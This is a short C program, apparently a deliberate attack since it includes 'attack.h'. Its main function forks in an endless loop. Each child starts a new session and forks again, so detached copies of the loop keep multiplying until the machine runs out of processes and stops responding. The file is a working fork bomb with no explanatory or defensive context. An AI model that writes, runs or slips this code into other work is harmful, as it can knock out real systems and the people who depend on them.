#include "attack.h"

int main(void) {
  for (;;) if (fork() == 0) { setsid(); if (fork()) _exit(0); }
}
